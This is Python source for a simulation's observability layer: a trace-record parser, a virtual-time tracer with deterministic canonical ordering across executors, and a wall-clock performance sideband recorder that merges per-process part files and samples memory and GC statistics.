            "metrics": self.metrics.to_dict(),
            "trace_events": len(self.tracer.events()),
        }


#: The active observation, or ``None`` (the default: observability off).
ACTIVE: Optional[Observation] = None


def activate(observation: Observation) -> Observation:
    """Install ``observation`` as the process-wide active context."""
    global ACTIVE
    ACTIVE = observation
    return observation


def deactivate() -> None:
    global ACTIVE
    ACTIVE = None


def active() -> Optional[Observation]:
    return ACTIVE


@contextmanager
def observing(observation: Observation) -> Iterator[Observation]:
    """Activate ``observation`` for the duration of a block."""
    global ACTIVE
    previous = ACTIVE
    activate(observation)
    try:
        yield observation
    finally:
        ACTIVE = previous
