"""Parsed trace records: the input side of trace analysis.

The tracer (:mod:`repro.obs.trace`) *produces* canonical JSONL; this
module turns that JSONL — or a live :class:`~repro.obs.trace.Tracer` —
back into typed records the analysis toolkit (:mod:`repro.obs.analyze`)
and the determinism diff (:mod:`repro.obs.diff`) consume.  A
:class:`ParsedEvent` mirrors the exported payload of
:class:`~repro.obs.trace.TraceEvent` field for field, plus its position
in the canonical order, so "event 1234 of the file" and "event 1234 of
the tracer" always name the same record.

Round-trip fidelity matters more than convenience here: the determinism
contract is *byte* identity of the export, so :meth:`ParsedEvent.to_json`
re-serializes exactly the way the tracer does (sorted keys, compact
separators), and the diff compares those strings rather than parsed
floats or datetimes.
"""

from __future__ import annotations

import datetime as _dt
import json
import re
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from .trace import TraceEvent, Tracer

_SCOPE_RE = re.compile(r"^(?:s(?P<stage>\d+))?(?:(?<=\d)\.)?(?:t(?P<task>\d+))?$")


class TraceFormatError(ValueError):
    """A trace file line that is not a valid canonical trace record."""


@dataclass(frozen=True)
class ParsedEvent:
    """One canonical trace record, as loaded from JSONL or a tracer.

    ``index`` is the 0-based position in canonical order; every other
    field mirrors the exported :class:`~repro.obs.trace.TraceEvent`
    payload.
    """

    index: int
    name: str
    vt: Optional[_dt.datetime]
    scope: str
    seq: int
    span: Optional[str] = None
    parent: Optional[str] = None
    probe: Optional[str] = None
    attrs: Dict[str, object] = field(default_factory=dict)

    def to_json(self) -> str:
        """The canonical serialization (byte-identical to the export)."""
        payload = {
            "name": self.name,
            "vt": self.vt.isoformat() if self.vt is not None else None,
            "scope": self.scope,
            "seq": self.seq,
            "span": self.span,
            "parent": self.parent,
            "probe": self.probe,
            "attrs": self.attrs,
        }
        return json.dumps(payload, sort_keys=True, separators=(",", ":"))

    @property
    def stage_ordinal(self) -> Optional[int]:
        return split_scope(self.scope)[0]

    @property
    def task_index(self) -> Optional[int]:
        return split_scope(self.scope)[1]


def split_scope(scope: str) -> Tuple[Optional[int], Optional[int]]:
    """``"s3.t12"`` → ``(3, 12)``; ``"s3"`` → ``(3, None)``; else Nones."""
    if scope == "run":
        return None, None
    match = _SCOPE_RE.match(scope)
    if match is None:
        return None, None
    stage, task = match.group("stage"), match.group("task")
    return (
        int(stage) if stage is not None else None,
        int(task) if task is not None else None,
    )


def _parse_vt(raw: Optional[str]) -> Optional[_dt.datetime]:
    if raw is None:
        return None
    return _dt.datetime.fromisoformat(raw)


def parse_jsonl(text: str) -> List[ParsedEvent]:
    """Parse a canonical JSONL trace; raises :class:`TraceFormatError`."""
    events: List[ParsedEvent] = []
    for lineno, line in enumerate(text.splitlines(), start=1):
        if not line.strip():
            continue
        try:
            payload = json.loads(line)
            event = ParsedEvent(
                index=len(events),
                name=payload["name"],
                vt=_parse_vt(payload["vt"]),
                scope=payload["scope"],
                seq=payload["seq"],
                span=payload.get("span"),
                parent=payload.get("parent"),
                probe=payload.get("probe"),
                attrs=payload.get("attrs") or {},
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise TraceFormatError(
                f"line {lineno}: not a canonical trace record ({exc})"
            ) from exc
        events.append(event)
    return events


def load_jsonl(path: str) -> List[ParsedEvent]:
    """Load a trace file written by ``--trace`` / ``Tracer.write_jsonl``."""
    with open(path) as handle:
        return parse_jsonl(handle.read())


@dataclass(frozen=True)
class PerfRecord:
    """One wall-clock sideband record (``perf.jsonl``).

    ``sid`` is the tracer-assigned id the record joins the canonical
    trace on: a span id (``s<stage>.t<task>#<n>``, matching the trace's
    ``span`` field), a task scope (``s<stage>.t<task>``) or a stage
    scope (``s<stage>``), disambiguated by ``kind``.  ``t0`` is seconds
    since the emitting role's recorder epoch; ``wall`` is the measured
    ``perf_counter`` duration.  Wall values are intentionally absent
    from :class:`ParsedEvent` — they live only here, in the sideband.
    """

    index: int
    kind: str
    sid: str
    name: str
    probe: Optional[str]
    role: str
    t0: float
    wall: float


def parse_perf_jsonl(text: str) -> List[PerfRecord]:
    """Parse a ``perf.jsonl`` stream; raises :class:`TraceFormatError`."""
    records: List[PerfRecord] = []
    for lineno, line in enumerate(text.splitlines(), start=1):
        if not line.strip():
            continue
        try:
            payload = json.loads(line)
            record = PerfRecord(
                index=len(records),
                kind=payload["kind"],
                sid=payload["sid"],
                name=payload["name"],
                probe=payload.get("probe"),
                role=payload.get("role", "main"),
                t0=float(payload["t0"]),
                wall=float(payload["wall"]),
            )
        except (KeyError, TypeError, ValueError) as exc:
            raise TraceFormatError(
                f"line {lineno}: not a perf sideband record ({exc})"
            ) from exc
        records.append(record)
    return records


def from_tracer(tracer: Tracer) -> List[ParsedEvent]:
    """Adapt a live tracer's canonical events without a serialize round."""
    return [_from_trace_event(i, e) for i, e in enumerate(tracer.canonical_events())]


def from_trace_events(events: Iterable[TraceEvent]) -> List[ParsedEvent]:
    """Adapt already-canonical :class:`TraceEvent` records."""
    return [_from_trace_event(i, e) for i, e in enumerate(events)]


def _from_trace_event(index: int, event: TraceEvent) -> ParsedEvent:
    return ParsedEvent(
        index=index,
        name=event.name,
        vt=event.vt,
        scope=event.scope,
        seq=event.seq,
        span=event.span,
        parent=event.parent,
        probe=event.probe,
        attrs=dict(event.attrs),
    )
