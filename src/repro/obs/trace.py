"""Virtual-time tracing: spans and events over a campaign run.

Every event is stamped with **virtual time** — the simulated instant the
emitting component observed through the campaign's clock router — never
the wall clock.  Virtual time is a pure function of the work list (task
``k`` of a stage runs at ``stage_base + k * seconds_per_probe``, and
in-task waits advance only that task's cursor), so the same seed
produces the same stamps under every execution strategy.  A wall-clock
timestamp would differ between runs and between executors, which is why
wall time is banned from trace payloads outright (it lives in
:mod:`repro.obs.metrics` instead — and, per span, in the
:mod:`repro.obs.perf` sideband, which observes span boundaries through
:attr:`Tracer.sink` but writes to files of its own).

Ordering uses the same idea.  Each event belongs to a *scope* — the run,
a stage, or one probe task — and scopes carry a sort prefix derived from
identity, not from execution order: stage ordinal, then task index
within the stage, then the per-scope emission sequence.  Task execution
is single-threaded *within* a task under every strategy, so the per-task
sequence is deterministic even for a worker-pool executor, and the
canonical export (:meth:`Tracer.export_jsonl` sorts by this key) is
byte-identical between the serial and sharded executors for the same
seed — the property ``tests/obs/test_trace_determinism.py`` asserts.

The emit path is guarded: every public method returns immediately when
the tracer is disabled, and instrumentation sites additionally check
:attr:`Tracer.enabled` before building attribute dicts, so tracing
defaults off with near-zero overhead.
"""

from __future__ import annotations

import datetime as _dt
import json
import threading
from dataclasses import dataclass, field, replace
from typing import Callable, Dict, Iterable, List, Optional, Tuple

#: Sort lane for events emitted before a scope's tasks (stage.begin) and
#: after them (stage.end); task lanes are the task indices in between.
_LANE_BEGIN = -1
_LANE_END = 1 << 60
#: Run-scope events sort before the stage they precede.
_LANE_RUN = -2


@dataclass(frozen=True)
class TraceEvent:
    """One trace record.

    ``vt`` is the virtual-time stamp (``None`` only when no simulation
    clock is bound, e.g. unit tests of the tracer itself).  ``scope`` is
    ``"run"``, ``"s<stage>"``, or ``"s<stage>.t<task>"``; ``probe``
    carries the task's stable probe id (``<suite>/<ip>``) for every event
    emitted while that probe was in flight.
    """

    name: str
    vt: Optional[_dt.datetime]
    scope: str
    seq: int
    span: Optional[str] = None
    parent: Optional[str] = None
    probe: Optional[str] = None
    attrs: Dict[str, object] = field(default_factory=dict)
    #: Canonical sort prefix: (stage ordinal, lane, seq, emit index).
    key: Tuple[int, int, int, int] = (0, 0, 0, 0)

    def to_json(self) -> str:
        payload = {
            "name": self.name,
            "vt": self.vt.isoformat() if self.vt is not None else None,
            "scope": self.scope,
            "seq": self.seq,
            "span": self.span,
            "parent": self.parent,
            "probe": self.probe,
            "attrs": self.attrs,
        }
        return json.dumps(payload, sort_keys=True, separators=(",", ":"))


class _Scope:
    """Mutable per-scope state: sequence and span counters.

    ``shared`` scopes (run, stage) may be reached from several threads and
    emit under the tracer lock; task scopes are single-threaded by design,
    so their events buffer lock-free in ``buf`` and batch into the global
    event list when the task closes (or on a same-thread read).
    """

    __slots__ = ("sid", "stage_ord", "lane", "probe", "seq", "spans", "shared", "buf")

    def __init__(
        self,
        sid: str,
        stage_ord: int,
        lane: int,
        probe: Optional[str] = None,
        shared: bool = True,
    ) -> None:
        self.sid = sid
        self.stage_ord = stage_ord
        self.lane = lane
        self.probe = probe
        self.seq = 0
        self.spans = 0
        self.shared = shared
        self.buf: List["TraceEvent"] = []


class Tracer:
    """A thread-safe, virtual-time span/event sink.

    ``clock`` is a zero-argument callable returning the current simulated
    instant; for campaign runs it is the clock router, so events emitted
    while a probe is in flight carry that probe's virtual time.
    """

    def __init__(
        self,
        *,
        enabled: bool = True,
        clock: Optional[Callable[[], _dt.datetime]] = None,
    ) -> None:
        self.enabled = enabled
        self.clock = clock
        #: Optional wall-clock sideband (:class:`repro.obs.perf.PerfRecorder`).
        #: Strictly write-only from the tracer's point of view: it is told
        #: when spans/tasks/stages open and close (by tracer-assigned id)
        #: and can never feed anything back into an event, so the
        #: canonical export stays byte-identical with or without it.
        self.sink = None
        self._events: List[TraceEvent] = []
        self._lock = threading.Lock()
        self._emit_counter = 0
        self._stages_begun = 0
        self._run_scope = _Scope("run", 0, _LANE_RUN)
        #: the open stage scope (stages are ambient across worker threads).
        self._stage: Optional[_Scope] = None
        self._local = threading.local()

    # -- scope plumbing -----------------------------------------------------

    def _current_scope(self) -> _Scope:
        scope = getattr(self._local, "scope", None)
        if scope is not None:
            return scope
        stage = self._stage
        return stage if stage is not None else self._run_scope

    def _span_stack(self) -> List[str]:
        stack = getattr(self._local, "spans", None)
        if stack is None:
            stack = self._local.spans = []
        return stack

    def _emit(
        self,
        name: str,
        scope: _Scope,
        *,
        lane: Optional[int] = None,
        vt: Optional[_dt.datetime] = None,
        span: Optional[str] = None,
        parent: Optional[str] = None,
        attrs: Optional[Dict[str, object]] = None,
    ) -> TraceEvent:
        if vt is None and self.clock is not None:
            vt = self.clock()
        if not scope.shared:
            # Task scopes are single-threaded: buffer lock-free and batch
            # into the global list when the task closes.  The emit-index
            # slot of the key is assigned at flush time; canonical order
            # never depends on it because (stage ordinal, lane, seq) is
            # already unique per event.
            seq = scope.seq
            scope.seq += 1
            event = TraceEvent(
                name=name,
                vt=vt,
                scope=scope.sid,
                seq=seq,
                span=span,
                parent=parent,
                probe=scope.probe,
                attrs=attrs or {},
                key=(scope.stage_ord, lane if lane is not None else scope.lane, seq, 0),
            )
            scope.buf.append(event)
            return event
        with self._lock:
            seq = scope.seq
            scope.seq += 1
            emit_index = self._emit_counter
            self._emit_counter += 1
            # Run-scope events sort ahead of the next stage to begin.
            stage_ord = (
                self._stages_begun if scope is self._run_scope else scope.stage_ord
            )
            event = TraceEvent(
                name=name,
                vt=vt,
                scope=scope.sid,
                seq=seq,
                span=span,
                parent=parent,
                probe=scope.probe,
                attrs=attrs or {},
                key=(stage_ord, lane if lane is not None else scope.lane, seq, emit_index),
            )
            self._events.append(event)
        return event

    def _flush_scope(self, scope: _Scope) -> None:
        """Batch a task scope's buffered events into the global list.

        One lock acquisition per task instead of one per event; the
        deferred emit-index tiebreak is stamped here, in buffer order.
        """
        buf = scope.buf
        if not buf:
            return
        scope.buf = []
        with self._lock:
            index = self._emit_counter
            events = self._events
            for event in buf:
                key = event.key
                object.__setattr__(event, "key", (key[0], key[1], key[2], index))
                index += 1
                events.append(event)
            self._emit_counter = index

    def _flush_local(self) -> None:
        """Flush the calling thread's open task scope, if any (read path)."""
        scope = getattr(self._local, "scope", None)
        if scope is not None:
            self._flush_scope(scope)

    # -- public emit API ----------------------------------------------------

    def event(self, name: str, *, vt: Optional[_dt.datetime] = None, **attrs) -> None:
        """Emit one event in the current scope (no-op when disabled)."""
        if not self.enabled:
            return
        stack = self._span_stack()
        self._emit(
            name,
            self._current_scope(),
            vt=vt,
            span=stack[-1] if stack else None,
            attrs=attrs,
        )

    def span(self, name: str, **attrs):
        """Context manager: emits ``<name>.begin`` / ``<name>.end``.

        The span id is derived from the scope's span counter, so ids
        nest deterministically (``s0.t3#1`` parented by ``s0.t3#0``).
        """
        return _SpanContext(self, name, attrs)

    # -- stage / task scopes -------------------------------------------------

    def begin_stage(self, stage: str, **attrs) -> None:
        """Open a stage scope; subsequent tasks sort under its ordinal."""
        if not self.enabled:
            return
        with self._lock:
            ordinal = self._stages_begun
            self._stages_begun += 1
        scope = _Scope(f"s{ordinal}", ordinal, _LANE_BEGIN)
        self._stage = scope
        self._emit(
            "stage.begin", scope, attrs=dict(attrs, stage=stage)
        )
        if self.sink is not None:
            self.sink.enter(scope.sid, "stage", stage, None)

    def end_stage(self, **attrs) -> None:
        if not self.enabled:
            return
        scope = self._stage
        if scope is None:
            return
        if self.sink is not None:
            self.sink.exit(scope.sid)
        self._emit("stage.end", scope, lane=_LANE_END, attrs=attrs)
        self._stage = None

    def begin_task(
        self,
        index: int,
        probe: str,
        *,
        vt: Optional[_dt.datetime] = None,
        **attrs,
    ) -> None:
        """Open a task scope under the current stage.

        ``probe`` is the stable probe id (``<suite>/<ip>``) carried by
        every event emitted while this task runs; ``vt`` is the task's
        assigned virtual timeslot.
        """
        if not self.enabled:
            return
        stage = self._stage
        stage_ord = stage.stage_ord if stage is not None else self._stages_begun
        sid = f"s{stage_ord}.t{index}" if stage is not None else f"t{index}"
        scope = _Scope(sid, stage_ord, index, probe, shared=False)
        self._local.scope = scope
        self._emit("task.begin", scope, vt=vt, attrs=attrs)
        if self.sink is not None:
            self.sink.enter(sid, "task", "task", probe)

    def end_task(self, *, vt: Optional[_dt.datetime] = None, **attrs) -> None:
        """Emit ``task.end`` and fall back to the stage scope."""
        if not self.enabled:
            return
        scope = getattr(self._local, "scope", None)
        if scope is not None:
            if self.sink is not None:
                self.sink.exit(scope.sid)
            self._emit("task.end", scope, vt=vt, attrs=attrs)
            self._flush_scope(scope)
        self._local.scope = None

    def drop_task(self) -> None:
        """Abandon the task scope without an event (exception unwind).

        Events the task already emitted are kept (flushed), exactly as
        they were when emission wrote straight to the global list.
        """
        scope = getattr(self._local, "scope", None)
        if scope is not None:
            if self.sink is not None:
                self.sink.discard(scope.sid)
            self._flush_scope(scope)
        self._local.scope = None

    # -- shard-world support --------------------------------------------------

    def open_stage_ordinal(self) -> int:
        """The ordinal of the open stage (or of the next stage to begin)."""
        scope = self._stage
        return scope.stage_ord if scope is not None else self._stages_begun

    def seed_stage_ordinal(self, ordinal: int) -> None:
        """Pin the next stage ordinal.

        A shard-world replica's tracer begins each stage at the ordinal
        the parent assigned, so task scope ids (``s<stage>.t<task>``) and
        sort keys match the parent's numbering exactly.
        """
        with self._lock:
            self._stages_begun = ordinal

    def event_count(self) -> int:
        self._flush_local()
        with self._lock:
            return len(self._events)

    def events_since(self, start: int) -> List[TraceEvent]:
        """Events emitted at positions ``start..`` (emission order)."""
        self._flush_local()
        with self._lock:
            return self._events[start:]

    def ingest(self, events: List[TraceEvent]) -> None:
        """Adopt events traced in another process.

        Each event keeps its canonical (stage ordinal, lane, seq) prefix —
        already unique per shard because task lanes are the parent-assigned
        work-list indices — and only the emit-index tiebreak is rewritten
        from this tracer's counter.  Ingesting shard batches in task-index
        order therefore reproduces the serial canonical order exactly.
        """
        if not self.enabled or not events:
            return
        with self._lock:
            for event in events:
                stage_ord, lane, seq, _ = event.key
                self._events.append(
                    replace(event, key=(stage_ord, lane, seq, self._emit_counter))
                )
                self._emit_counter += 1

    def stitch(
        self,
        segments: Iterable[List[TraceEvent]],
        *,
        stages_begun: Optional[int] = None,
    ) -> None:
        """Rebuild a trace prefix from persisted checkpoint segments.

        A checkpointed run stores the trace as delta segments (the
        events emitted since the previous checkpoint); ingesting them in
        checkpoint order reproduces the original emission order, and the
        canonical sort key never falls back to the rewritten emit index
        (distinct events never share a ``(stage ordinal, lane, seq)``
        prefix), so the stitched trace exports byte-identical to the
        uninterrupted one.  ``stages_begun`` then re-seeds stage
        numbering so the resumed run's stages continue the ordinals
        where the checkpoint stopped.
        """
        for segment in segments:
            self.ingest(segment)
        if stages_begun is not None:
            self.seed_stage_ordinal(stages_begun)

    # -- export ---------------------------------------------------------------

    def events(self) -> List[TraceEvent]:
        self._flush_local()
        with self._lock:
            return list(self._events)

    def canonical_events(self) -> List[TraceEvent]:
        """Events in canonical order: stage ordinal, task index, sequence."""
        return sorted(self.events(), key=lambda e: e.key)

    def export_jsonl(self) -> str:
        """The canonical JSONL trace (byte-identical across executors)."""
        return "\n".join(e.to_json() for e in self.canonical_events())

    def write_jsonl(self, path: str) -> int:
        """Write the canonical trace to ``path``; returns the event count.

        The count comes from the canonical snapshot (taken under
        ``_lock`` by :meth:`events`), never from an unlocked read of
        ``_events``, so it always matches what was written.
        """
        events = self.canonical_events()
        with open(path, "w") as handle:
            for event in events:
                handle.write(event.to_json() + "\n")
        return len(events)

    def clear(self) -> None:
        scope = getattr(self._local, "scope", None)
        if scope is not None:
            scope.buf = []
        with self._lock:
            self._events.clear()


class _SpanContext:
    """The context manager behind :meth:`Tracer.span`."""

    __slots__ = ("_tracer", "_name", "_attrs", "_sid", "_parent")

    def __init__(self, tracer: Tracer, name: str, attrs: Dict[str, object]) -> None:
        self._tracer = tracer
        self._name = name
        self._attrs = attrs
        self._sid: Optional[str] = None
        self._parent: Optional[str] = None

    def __enter__(self) -> Optional[str]:
        tracer = self._tracer
        if not tracer.enabled:
            return None
        scope = tracer._current_scope()
        if scope.shared:
            with tracer._lock:
                self._sid = f"{scope.sid}#{scope.spans}"
                scope.spans += 1
        else:
            # Task scopes are single-threaded; no lock needed.
            self._sid = f"{scope.sid}#{scope.spans}"
            scope.spans += 1
        stack = tracer._span_stack()
        self._parent = stack[-1] if stack else None
        tracer._emit(
            f"{self._name}.begin",
            scope,
            span=self._sid,
            parent=self._parent,
            attrs=self._attrs,
        )
        stack.append(self._sid)
        if tracer.sink is not None:
            tracer.sink.enter(self._sid, "span", self._name, scope.probe)
        return self._sid

    def __exit__(self, exc_type, exc, tb) -> None:
        tracer = self._tracer
        if self._sid is None:
            return
        if tracer.sink is not None:
            tracer.sink.exit(self._sid)
        stack = tracer._span_stack()
        if stack and stack[-1] == self._sid:
            stack.pop()
        tracer._emit(
            f"{self._name}.end",
            tracer._current_scope(),
            span=self._sid,
            parent=self._parent,
        )
