"""Wall-clock performance telemetry: the sideband profiler.

Everything else in :mod:`repro.obs` stamps *virtual* time — wall clocks
are banned from trace payloads because they would differ between runs
and between executors, breaking the byte-identical canonical export.
This module is the explicit, structural exception: a
:class:`PerfRecorder` observes the same span/task/stage boundaries the
tracer emits, but writes ``perf_counter`` wall timings into *separate*
sideband files that no deterministic artifact ever reads or embeds.

The design makes perturbation impossible rather than merely avoided:

- the recorder is a write-only **sink** hung off :class:`~.trace.Tracer`
  (``tracer.sink``); it receives span ids and never returns a value the
  tracer could incorporate into an event;
- records go to files of their own (``perf.jsonl`` and
  ``perf_samples.jsonl`` in the ``--perf`` directory), appended with raw
  ``os.write`` calls so no Python-level stream buffer is shared with —
  or can be double-flushed by — forked worker processes;
- the join back to the deterministic world happens offline: each span
  record carries the tracer's span id (``s<stage>.t<task>#<n>``), which
  matches the ``span`` field of the canonical trace 1:1, so ``trace
  profile`` can attribute wall seconds to virtual spans after the fact.

Per-process streams and the merge
---------------------------------

Every process writes its own part files, named by *role*: the parent is
``main``, process-executor shard workers are ``shard<k>``, and a shard
that degraded to in-process fallback is ``shard<k>f``.  At
:meth:`PerfRecorder.finalize` (parent, after executor shutdown) the part
files are concatenated in deterministic role order — ``main`` first,
then shards by ascending id — into ``perf.jsonl`` / ``perf_samples.jsonl``,
mirroring how trace events are merged by shard id today.

Sampler
-------

``start_sampler`` launches a daemon thread that periodically appends a
resource sample: RSS (``/proc/self/status``), GC statistics, and — when
a counter source is bound — the read-only counter surface of the lazy
world (chunk-LRU hits/misses, unit/server materializations, DNS cache
hit rate, shard event-shipping bytes).  Reading counters cannot disturb
them: they are plain integers incremented by the world regardless of
whether perf is enabled, which is also what lets the report print them
deterministically.
"""

from __future__ import annotations

import gc as _gc
import json
import os
import re
import sys
import threading
import time
from typing import Callable, Dict, List, Optional, Tuple

__all__ = [
    "PerfRecorder",
    "PerfProfile",
    "SPAN_STREAM",
    "SAMPLE_STREAM",
    "campaign_counters",
    "simulation_counters",
    "load_perf_dir",
    "rss_kb",
]

#: Merged (post-:meth:`~PerfRecorder.finalize`) stream file names.
SPAN_STREAM = "perf.jsonl"
SAMPLE_STREAM = "perf_samples.jsonl"
META_FILE = "perf_meta.json"

#: Span records buffered in memory before an ``os.write`` flush.
_FLUSH_LINES = 50_000

_ROLE_RE = re.compile(r"^shard(\d+)(f?)$")


def rss_kb() -> int:
    """Resident set size of this process in KiB (0 when unreadable)."""
    try:
        with open("/proc/self/status", "rb") as handle:
            for line in handle:
                if line.startswith(b"VmRSS:"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    try:
        import resource

        return int(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
    except Exception:
        return 0


def _gc_stats() -> Dict[str, object]:
    stats = _gc.get_stats()
    return {
        "counts": list(_gc.get_count()),
        "collections": sum(int(s.get("collections", 0)) for s in stats),
        "collected": sum(int(s.get("collected", 0)) for s in stats),
        "uncollectable": sum(int(s.get("uncollectable", 0)) for s in stats),
    }


def _role_order(role: str) -> Tuple[int, int, str]:
    """Deterministic merge order: ``main`` first, then shards by id."""
    if role == "main":
        return (0, 0, "")
    match = _ROLE_RE.match(role)
    if match is not None:
        return (1, int(match.group(1)), match.group(2))
    return (2, 0, role)


class PerfRecorder:
    """One process's wall-clock sideband writer.

    Acts as the tracer's ``sink``: :meth:`enter` / :meth:`exit` bracket a
    span, task or stage by its tracer-assigned id and append one JSON
    record per closed pair.  All writes go to this role's private part
    files via unbuffered ``os.write`` appends, so a ``fork()`` taken at
    any instant can never duplicate buffered sideband data, let alone
    touch a deterministic artifact.
    """

    def __init__(
        self,
        directory: str,
        *,
        role: str = "main",
        sample_interval: float = 0.5,
    ) -> None:
        self.directory = directory
        self.role = role
        self.sample_interval = sample_interval
        self.record_count = 0
        self.sample_count = 0
        os.makedirs(directory, exist_ok=True)
        self._span_path = os.path.join(directory, f"spans-{role}.jsonl")
        self._sample_path = os.path.join(directory, f"samples-{role}.jsonl")
        # A rerun into the same directory must not append to stale parts.
        for path in (self._span_path, self._sample_path):
            try:
                os.remove(path)
            except OSError:
                pass
        self._epoch = time.perf_counter()
        self._open: Dict[str, Tuple[float, str, str, Optional[str]]] = {}
        self._buf: List[str] = []
        self._lock = threading.Lock()
        self._esc_cache: Dict[Optional[str], str] = {None: "null"}
        self._role_json = json.dumps(role)
        self._counters: Optional[Callable[[], Dict[str, int]]] = None
        self._stop: Optional[threading.Event] = None
        self._thread: Optional[threading.Thread] = None

    # -- tracer sink protocol -------------------------------------------------

    def enter(self, sid: str, kind: str, name: str, probe: Optional[str]) -> None:
        """A span/task/stage with tracer id ``sid`` just began."""
        self._open[sid] = (time.perf_counter(), kind, name, probe)

    def exit(self, sid: str) -> None:
        """The pending entry for ``sid`` just ended; record its wall time."""
        entry = self._open.pop(sid, None)
        if entry is None:
            return
        ended = time.perf_counter()
        t0, kind, name, probe = entry
        cache = self._esc_cache
        escaped_name = cache.get(name)
        if escaped_name is None:
            escaped_name = cache[name] = json.dumps(name)
        escaped_probe = cache.get(probe)
        if escaped_probe is None:
            escaped_probe = cache[probe] = json.dumps(probe)
        # Keys in sorted order, matching json.dumps(sort_keys=True).  The
        # sid is tracer-generated ([a-z0-9.#] only) and embeds raw.
        line = (
            f'{{"kind":"{kind}","name":{escaped_name},"probe":{escaped_probe},'
            f'"role":{self._role_json},"sid":"{sid}",'
            f'"t0":{t0 - self._epoch:.6f},"wall":{ended - t0:.9f}}}\n'
        )
        with self._lock:
            self._buf.append(line)
            pending = len(self._buf)
        self.record_count += 1
        if pending >= _FLUSH_LINES:
            self.flush()

    def discard(self, sid: str) -> None:
        """Abandon a pending entry (task dropped on exception unwind)."""
        self._open.pop(sid, None)

    # -- file plumbing --------------------------------------------------------

    @staticmethod
    def _append(path: str, text: str) -> None:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
        try:
            os.write(fd, text.encode("utf-8"))
        finally:
            os.close(fd)

    def flush(self, *, with_sample: bool = False) -> None:
        """Write buffered span records out; optionally append a sample.

        Shard workers call this at every stage boundary (with a sample),
        so their streams are on disk before the parent merges them.
        """
        with self._lock:
            lines = self._buf
            self._buf = []
        if lines:
            self._append(self._span_path, "".join(lines))
        if with_sample:
            self._write_sample()

    # -- resource sampler -----------------------------------------------------

    def start_sampler(
        self, counters: Optional[Callable[[], Dict[str, int]]] = None
    ) -> None:
        """Begin periodic resource/counter sampling on a daemon thread."""
        self._counters = counters
        if self._thread is not None:
            return
        self._stop = threading.Event()
        self._thread = threading.Thread(
            target=self._sample_loop, name=f"perf-sampler-{self.role}", daemon=True
        )
        self._thread.start()

    def _sample_loop(self) -> None:
        stop = self._stop
        while stop is not None and not stop.wait(self.sample_interval):
            self._write_sample()

    def stop_sampler(self) -> None:
        thread, self._thread = self._thread, None
        if thread is None:
            return
        if self._stop is not None:
            self._stop.set()
        thread.join(timeout=5.0)
        # One final sample so even sub-interval runs record end state.
        self._write_sample()

    def _write_sample(self) -> None:
        record = {
            "kind": "sample",
            "role": self.role,
            "t": round(time.perf_counter() - self._epoch, 6),
            "rss_kb": rss_kb(),
            "gc": _gc_stats(),
            "spans": self.record_count,
        }
        counters = self._counters
        if counters is not None:
            try:
                record["counters"] = counters()
            except Exception:
                pass
        line = json.dumps(record, sort_keys=True, separators=(",", ":"))
        self._append(self._sample_path, line + "\n")
        self.sample_count += 1

    # -- merge ----------------------------------------------------------------

    def finalize(self) -> Dict[str, object]:
        """Stop sampling, flush, and merge all part files.

        Called in the parent after executor shutdown — every worker has
        exited (flushing at each stage boundary along the way), so the
        part files are complete.  Parts are concatenated ``main`` first,
        then shards by ascending id (fallback parts after their shard),
        into :data:`SPAN_STREAM` / :data:`SAMPLE_STREAM`, and removed.
        """
        self.stop_sampler()
        self.flush()
        summary: Dict[str, object] = {"directory": self.directory}
        roles: List[str] = []
        for prefix, merged_name, key in (
            ("spans-", SPAN_STREAM, "records"),
            ("samples-", SAMPLE_STREAM, "samples"),
        ):
            part_roles = [
                name[len(prefix):-len(".jsonl")]
                for name in os.listdir(self.directory)
                if name.startswith(prefix) and name.endswith(".jsonl")
            ]
            part_roles.sort(key=_role_order)
            if prefix == "spans-":
                roles = part_roles
            merged = os.path.join(self.directory, merged_name)
            count = 0
            fd = os.open(merged, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
            try:
                for role in part_roles:
                    path = os.path.join(
                        self.directory, f"{prefix}{role}.jsonl"
                    )
                    with open(path, "rb") as handle:
                        data = handle.read()
                    count += data.count(b"\n")
                    os.write(fd, data)
                    os.remove(path)
            finally:
                os.close(fd)
            summary[key] = count
        summary["roles"] = roles or [self.role]
        meta = {
            "python": sys.version.split()[0],
            "sample_interval": self.sample_interval,
            "records": summary.get("records", 0),
            "samples": summary.get("samples", 0),
            "roles": summary["roles"],
        }
        with open(os.path.join(self.directory, META_FILE), "w") as handle:
            json.dump(meta, handle, indent=2, sort_keys=True)
            handle.write("\n")
        return summary


# -- counter surface ----------------------------------------------------------


def campaign_counters(campaign) -> Dict[str, int]:
    """Read-only counter snapshot of one campaign's (lazy) world.

    Duck-typed over the ``perf_counters()`` methods of the population,
    fleet, resolver and network; works identically for the parent
    campaign and a shard-world replica's campaign.
    """
    counters: Dict[str, int] = {}
    for source in (
        getattr(campaign, "population", None),
        getattr(campaign, "fleet", None),
        getattr(campaign, "resolver", None),
        getattr(campaign, "network", None),
    ):
        exporter = getattr(source, "perf_counters", None)
        if exporter is not None:
            counters.update(exporter())
    return counters


def simulation_counters(sim) -> Dict[str, int]:
    """Campaign counters plus the executor's shipping-volume counters."""
    counters = campaign_counters(sim.campaign)
    exporter = getattr(getattr(sim.campaign, "executor", None), "perf_counters", None)
    if exporter is not None:
        counters.update(exporter())
    return counters


# -- consumption: load + join ------------------------------------------------


def load_perf_dir(directory: str) -> Tuple[list, List[dict]]:
    """``(PerfRecord list, sample dicts)`` from a ``--perf`` directory."""
    from .records import TraceFormatError, parse_perf_jsonl

    span_path = os.path.join(directory, SPAN_STREAM)
    records = []
    if os.path.exists(span_path):
        with open(span_path, "r") as handle:
            records = parse_perf_jsonl(handle.read())
    samples: List[dict] = []
    sample_path = os.path.join(directory, SAMPLE_STREAM)
    if os.path.exists(sample_path):
        with open(sample_path, "r") as handle:
            for lineno, line in enumerate(handle, 1):
                line = line.strip()
                if not line:
                    continue
                try:
                    samples.append(json.loads(line))
                except ValueError as exc:
                    raise TraceFormatError(
                        f"{sample_path}:{lineno}: not valid JSON: {exc}"
                    ) from exc
    return records, samples


def _fmt_seconds(value: float) -> str:
    return f"{value:.3f}"


def _pct(part: float, whole: float) -> str:
    if whole <= 0:
        return "—"
    return f"{100.0 * part / whole:.1f}%"


def _rate(hits: int, total: int) -> str:
    if total <= 0:
        return "—"
    return f"{100.0 * hits / total:.1f}%"


